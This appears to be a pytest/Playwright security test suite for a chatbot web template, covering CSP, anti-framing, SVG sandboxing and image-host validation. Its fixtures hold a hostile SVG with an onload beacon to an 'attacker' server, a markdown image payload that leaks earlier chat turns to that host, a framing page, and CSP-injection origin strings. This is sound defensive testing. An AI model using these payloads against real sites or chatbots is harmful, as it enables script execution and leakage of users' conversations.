"""The page's own defences, proven in Chromium: what it loads, who may frame it, what an SVG may do.

(Also the `image_hosts` question that feeds the page's img-src: copier, `brandbot validate` and the
runtime's IMAGE_HOSTS check apply one rule.)

One bot serves a copy of the retail project whose logo, favicon and a public file are hostile SVGs;
a scripted middleware answers with chosen markdown. Two more loopback servers stand for other
sites: an "attacker" (a tracking pixel host, and a page that tries to frame the bot) that records
every request it gets, and an image host the deployment lists in IMAGE_HOSTS.
"""

from __future__ import annotations

import json
import re
import secrets
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Page, expect

from brandbot.browser import send
from brandbot.processes import Service, free_port, start_app
from brandbot.validation import validate_answers

from .helpers import REPO, StubMiddleware, copier_render, record_figure, skip_local_state

GIF = bytes.fromhex("47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b")
ANSWERS = '[data-step-type="assistant_message"]'


@dataclass
class Setup:
    bot: Service
    middleware: StubMiddleware
    attacker: StubMiddleware
    image_host: StubMiddleware


def hostile_svg(beacon: str) -> str:
    """An SVG that, if it ever runs as a document on the bot's origin, marks itself and calls `beacon`."""
    return ('<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" '
            "onload=\"document.documentElement.setAttribute('data-ran','yes');"
            f"new Image().src='{beacon}'\"><rect width=\"16\" height=\"16\"/></svg>")


@pytest.fixture(scope="module")
def setup(rendered: Callable[[Path], Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
    pixel = ("image/gif", GIF)
    middleware, attacker = StubMiddleware(), StubMiddleware(pages={"/p.gif": pixel})
    image_host = StubMiddleware(pages={"/boot.gif": pixel})
    project = tmp_path_factory.mktemp("security") / "project"
    shutil.copytree(rendered(REPO / "examples/retail.yml"), project, ignore=skip_local_state)
    public = project / "public"
    for old in [*public.glob("logo_*.*"), *public.glob("favicon.*")]:
        old.unlink()
    for name in ("logo_light.svg", "logo_dark.svg", "favicon.svg", "hostile.svg"):
        beacon = f"/svg-ran-{name}.gif"
        attacker.pages[beacon] = pixel
        (public / name).write_text(hostile_svg(attacker.origin + beacon), encoding="utf-8")
    secret = "security-" + secrets.token_hex(12)
    try:
        bot = start_app(project, port=free_port(), middleware_url=f"{middleware.origin}/chat", secret=secret,
                        log_dir=tmp_path_factory.mktemp("security-logs"),
                        extra_env={"IMAGE_HOSTS": image_host.origin, "TRANSITION_DELAY_SECONDS": "0"})
    except BaseException:
        for site in (middleware, attacker, image_host):
            site.stop()
        raise
    attacker.pages["/frame.html"] = (
        "text/html", f'<!doctype html><title>other site</title><iframe src="{bot.base_url}/"></iframe>'.encode())
    yield Setup(bot, middleware, attacker, image_host)
    bot.stop()
    for site in (middleware, attacker, image_host):
        site.stop()


@dataclass
class Watched:
    """A page with every request it made and every console message it printed."""

    page: Page
    requests: list[str]
    console: list[str]


@pytest.fixture
def watched(browser: Any) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1000, "height": 800}, locale="en-US")
    page = context.new_page()
    requests: list[str] = []
    console: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("console", lambda message: console.append(f"{message.type}: {message.text}"))
    yield Watched(page, requests, console)
    context.close()


def open_chat(watched: Watched, setup: Setup) -> None:
    watched.page.goto(setup.bot.base_url)
    expect(watched.page.locator(ANSWERS).first).to_be_visible(timeout=20_000)


def answer(watched: Watched, setup: Setup, reply: str) -> Any:
    """Queue `reply` at the middleware, send a message, and return the rendered answer's content."""
    answers = watched.page.locator(ANSWERS)
    before = answers.count()
    setup.middleware.replies.append(reply)
    send(watched.page, "next")
    expect(answers).to_have_count(before + 1, timeout=10_000)
    content = answers.last.locator(".message-content").first
    expect(content).not_to_have_text("Thinking...", timeout=10_000)
    return content


def csp_violations(console: list[str]) -> list[str]:
    return [line for line in console if "Content Security Policy" in line or "Refused to" in line]


def test_the_page_works_under_its_policy_and_requests_only_the_bot(watched: Watched, setup: Setup) -> None:
    response = httpx.get(setup.bot.base_url + "/", timeout=5)
    assert "frame-ancestors 'self'" in response.headers.get("content-security-policy", "")
    open_chat(watched, setup)
    content = answer(watched, setup, "Your order **QX-77** has shipped.")
    expect(content).to_have_text("Your order QX-77 has shipped.")
    bot_host = urlsplit(setup.bot.base_url).netloc
    others = sorted({url for url in watched.requests if urlsplit(url).netloc != bot_host and
                     not url.startswith(("data:", "blob:"))})
    record_figure("requests to other hosts on loading the page and chatting", len(others), "Chromium, retail")
    assert others == []
    assert csp_violations(watched.console) == []


def test_a_remote_image_in_an_answer_is_never_fetched_and_its_alt_text_shows(watched: Watched,
                                                                              setup: Setup) -> None:
    open_chat(watched, setup)
    pixel = f"{setup.attacker.origin}/p.gif?leak=earlier-turns"
    reply = (f"Inline ![Inline photo]({pixel}&kind=inline) and reference ![Reference photo][pixel]\n\n"
             f"[pixel]: {pixel}&kind=reference")
    content = answer(watched, setup, reply)
    for alt in ("Inline photo", "Reference photo"):  # a broken <img> shows its alt text in Chromium's box
        image = content.get_by_role("img", name=alt, exact=True)
        expect(image).to_be_visible()
        assert image.evaluate("image => image.complete && image.naturalWidth === 0")
    watched.page.wait_for_timeout(500)  # give a fetch that should not happen the time to arrive
    leaked = [path for path in setup.attacker.fetched_paths() if path.startswith("/p.gif")]
    record_figure("requests to an unlisted image host from an answer's images", len(leaked),
                  "inline + reference image")
    assert leaked == []
    blocked = [line for line in csp_violations(watched.console) if setup.attacker.origin in line]
    assert len(blocked) >= 1, watched.console


def test_an_image_from_a_listed_host_loads_without_a_referrer(watched: Watched, setup: Setup) -> None:
    open_chat(watched, setup)
    content = answer(watched, setup, f"Here it is: ![Boot photo]({setup.image_host.origin}/boot.gif)")
    image = content.locator('img[alt="Boot photo"]')
    expect(image).to_be_visible()
    assert image.evaluate("image => image.complete && image.naturalWidth > 0")
    fetched = [headers for path, headers in setup.image_host.fetched if path == "/boot.gif"]
    assert len(fetched) == 1 and "referer" not in fetched[0]


def test_another_origin_cannot_frame_the_bot(watched: Watched, setup: Setup) -> None:
    watched.page.goto(f"{setup.attacker.origin}/frame.html")
    watched.page.wait_for_timeout(3_000)  # a framed page that loads shows its welcome within this time
    framed = [frame for frame in watched.page.frames if frame != watched.page.main_frame]
    assert len(framed) == 1
    assert framed[0].locator(ANSWERS).count() == 0
    assert any("frame-ancestors" in line for line in watched.console), watched.console


@pytest.mark.parametrize("path", ["/logo?theme=light", "/logo?theme=dark", "/favicon", "/public/hostile.svg"])
def test_a_hostile_svg_opened_directly_runs_nothing(watched: Watched, setup: Setup, path: str) -> None:
    response = watched.page.goto(setup.bot.base_url + path)
    assert response is not None and response.headers["content-type"].startswith("image/svg+xml")
    assert re.search(r"\bsandbox\b", response.headers.get("content-security-policy", ""))
    watched.page.wait_for_timeout(300)
    assert watched.page.evaluate("document.documentElement.getAttribute('data-ran')") is None
    assert [path for path in setup.attacker.fetched_paths() if "svg-ran" in path] == []


ORIGINS = [
    ("https://cdn.acme.example", True), ("https://CDN.acme.example:8443", True), ("http://127.0.0.1:9000", True),
    ("http://localhost", True), ("http://[::1]:5000", True), ("https://[2001:db8::1]", True),
    ("http://cdn.acme.example", False), ("https://cdn.acme.example/", False), ("https://cdn.acme.example/a", False),
    ("https://*.acme.example", False), ("https://cdn.acme.example?x=1", False), ("https://u@cdn.acme.example", False),
    ("https://cdn.acme.example:65536", False), ("cdn.acme.example", False), ("'unsafe-inline'", False),
    ("https://a.example; script-src *", False), ("https://a.example\n", False), ("data:", False),
]


def runtime_parse_origins() -> Callable[[object], tuple[str, ...]]:
    """The generated bot's own IMAGE_HOSTS check (origins.py imports only the standard library)."""
    import importlib.util
    import sys

    name = "brandbot_runtime_origins_under_test"
    if name not in sys.modules:  # dataclasses look their module up in sys.modules
        spec = importlib.util.spec_from_file_location(name, REPO / "template/brandbot_runtime/origins.py")
        assert spec is not None and spec.loader is not None
        sys.modules[name] = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(sys.modules[name])
    return sys.modules[name].parse_image_hosts


@pytest.mark.parametrize(("origin", "accepted"), ORIGINS)
def test_the_question_and_the_runtime_apply_one_origin_rule(origin: str, accepted: bool) -> None:
    problems = [str(problem) for problem in validate_answers({"brand_name": "Acme", "image_hosts": ["https://a.example",
                                                                                                    origin]})]
    assert problems == ([] if accepted else [
        f"image_hosts: image_hosts[1]: must be an origin https://host[:port] without path, query or wildcard "
        f"(http only for 127.0.0.1, localhost or [::1]; got {json.dumps(origin)})"])
    try:
        runtime_parse_origins()(["https://a.example", origin])
    except ValueError as error:
        assert not accepted and "image_hosts[1]: must be an origin" in str(error)
    else:
        assert accepted


def test_copier_writes_image_hosts_to_brand_toml_and_refuses_a_bad_one(tmp_path: Path) -> None:
    out = copier_render(tmp_path / "good", {"brand_name": "Acme", "image_hosts": ["https://cdn.acme.example"]})
    brand = (out / "brand.toml").read_text(encoding="utf-8")
    assert 'image_hosts = ["https://cdn.acme.example"]' in brand
    assert 'image_hosts = []' in (copier_render(tmp_path / "default", {"brand_name": "Acme"}) / "brand.toml").read_text(
        encoding="utf-8")
    with pytest.raises(ValueError, match=r"image_hosts\[0\]: must be an origin"):
        copier_render(tmp_path / "bad", {"brand_name": "Acme", "image_hosts": ["https://cdn.acme.example/pixels"]})
